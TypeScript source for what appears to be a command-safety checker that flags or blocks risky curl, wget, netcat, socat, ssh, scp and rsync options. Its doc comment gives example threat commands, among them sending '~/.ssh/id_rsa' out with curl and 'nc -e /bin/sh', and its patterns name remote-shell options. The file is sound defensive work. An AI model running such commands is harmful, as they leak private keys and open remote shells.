// Network tools: what they fetch is flagged, and options that write files, upload local files or run programs block.
import { block, flag } from '../findings.js';
import { isOneOf, scanArgs, type Opt, type OptSpec } from '../options.js';
import { isHarmlessSink } from '../paths.js';
import { wordsSpan, type CheckInput } from './context.js';

const CURL: OptSpec = {
  shortValue: 'oDcdTFKeHuxXAbrwEmyYzCPQt',
  longValue: [
    'output', 'dump-header', 'cookie-jar', 'data', 'data-binary', 'data-raw', 'data-urlencode', 'data-ascii', 'upload-file',
    'form', 'config', 'referer', 'header', 'user', 'proxy', 'request', 'user-agent', 'cookie', 'range', 'write-out', 'cert',
    'max-time', 'trace', 'trace-ascii', 'libcurl', 'output-dir', 'stderr', 'json', 'url', 'connect-timeout', 'retry',
  ],
};
const WGET: OptSpec = {
  shortValue: 'OoaPieUTtwQlDAR',
  longValue: ['output-document', 'output-file', 'append-output', 'directory-prefix', 'input-file', 'execute', 'user-agent', 'post-file', 'body-file', 'post-data', 'header', 'tries', 'timeout'],
};

function optText(o: Opt): string {
  return `${o.long ? '--' : '-'}${o.name}${o.value !== undefined ? ` ${o.value}` : ''}`;
}

function checkCurl(c: CheckInput): void {
  const scan = scanArgs(c.cmd.argv, 1, CURL);
  for (const o of scan.opts) {
    const at = wordsSpan(c, o.index, o.valueIndex);
    const v = o.value ?? '';
    if (isOneOf(o, ['o', 'output', 'D', 'dump-header', 'c', 'cookie-jar', 'trace', 'trace-ascii', 'libcurl', 'stderr']) && v !== '-' && !isHarmlessSink(v)) {
      flag(c.f, 'writes-file', `curl ${optText(o)} writes a file`, at);
    } else if (isOneOf(o, ['O', 'remote-name', 'remote-name-all', 'output-dir', 'J', 'remote-header-name'])) {
      flag(c.f, 'writes-file', `curl ${optText(o)} saves the download as a file`, at);
    } else if (isOneOf(o, ['T', 'upload-file']) || (isOneOf(o, ['d', 'data', 'data-binary', 'data-urlencode', 'data-ascii', 'json', 'F', 'form']) && /(^|=)[@<]/.test(v))) {
      flag(c.f, 'network', `curl ${optText(o)} sends a local file over the network`, at);
    } else if (isOneOf(o, ['K', 'config'])) {
      block(c.f, `curl ${optText(o)} reads options from a file that cannot be checked`, at);
    }
  }
}

function checkWget(c: CheckInput): void {
  const scan = scanArgs(c.cmd.argv, 1, WGET);
  const doc = scan.opts.find((o) => isOneOf(o, ['O', 'output-document']));
  const spider = scan.opts.some((o) => isOneOf(o, ['spider']));
  if (!spider && (doc === undefined || (doc.value !== '-' && !isHarmlessSink(doc.value ?? '')))) {
    const at = doc ? wordsSpan(c, doc.index, doc.valueIndex) : c.cmd.span;
    flag(c.f, 'writes-file', `wget saves the download as ${doc?.value ?? 'a file'}`, at);
  }
  for (const o of scan.opts) {
    const at = wordsSpan(c, o.index, o.valueIndex);
    if (isOneOf(o, ['o', 'output-file', 'a', 'append-output']) && !isHarmlessSink(o.value ?? '')) flag(c.f, 'writes-file', `wget ${optText(o)} writes a log file`, at);
    else if (isOneOf(o, ['post-file', 'body-file'])) flag(c.f, 'network', `wget ${optText(o)} sends a local file over the network`, at);
    else if (isOneOf(o, ['e', 'execute'])) block(c.f, `wget ${optText(o)} runs a configuration command`, at);
  }
}

function checkRemoteShell(c: CheckInput, name: string): void {
  const argv = c.cmd.argv;
  argv.forEach((w, i) => {
    const at = wordsSpan(c, i, i + 1);
    const next = argv[i + 1] ?? '';
    if ((w === '-o' && /^(ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand|Match)/i.test(next)) || /^-o(ProxyCommand|LocalCommand|KnownHostsCommand)/i.test(w)) {
      flag(c.f, 'code-execution', `${name} ${w} ${next} runs a local command`, at);
      c.scripts.push({ text: (w === '-o' ? next : w.slice(2)).replace(/^\w+[=\s]\s*/, ''), via: name });
    } else if ((name === 'scp' && w === '-S') || (name === 'rsync' && (w === '-e' || /^--(rsh|rsync-path)\b/.test(w)))) {
      flag(c.f, 'code-execution', `${name} ${w} ${w.includes('=') ? '' : next} runs a program`, at);
      c.scripts.push({ text: w.includes('=') ? w.slice(w.indexOf('=') + 1) : next, via: name });
    } else if ((name === 'nc' || name === 'ncat' || name === 'netcat') && /^-[ec]$|^--(exec|sh-exec|lua-exec)/.test(w)) {
      flag(c.f, 'code-execution', `${name} ${w} connects a program to the network`, at);
      c.scripts.push({ text: w.includes('=') ? w.slice(w.indexOf('=') + 1) : next, via: name });
    } else if (name === 'socat' && /(^|[,!])(EXEC|SYSTEM):/i.test(w)) {
      flag(c.f, 'code-execution', `socat ${w} runs a program`, at);
      c.scripts.push({ text: w.replace(/^.*?(EXEC|SYSTEM):/i, '').replace(/,[a-z-]+(=[^,]*)?$/i, ''), via: 'socat' });
    }
  });
}

/** Programs that reach the network, with their own checks. */
export const NETWORK_TOOLS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'ssh', 'scp', 'sftp', 'rsync', 'telnet', 'ftp', 'http', 'https', 'aria2c', 'lftp']);

/**
 * Flags network access, and downloads written to disk, local files sent out, and programs run by network tools.
 * Threat: `curl -o ~/.bashrc URL`, `curl -d @~/.ssh/id_rsa URL`, `ssh -o ProxyCommand='sh -c …' x`, `nc -e /bin/sh`.
 */
export function checkNetwork(c: CheckInput): void {
  const name = c.cmd.argv[0]!;
  flag(c.f, 'network', `${name} connects to the network`, c.cmd.span, 'risk');
  if (name === 'curl') checkCurl(c);
  else if (name === 'wget') checkWget(c);
  else checkRemoteShell(c, name);
}
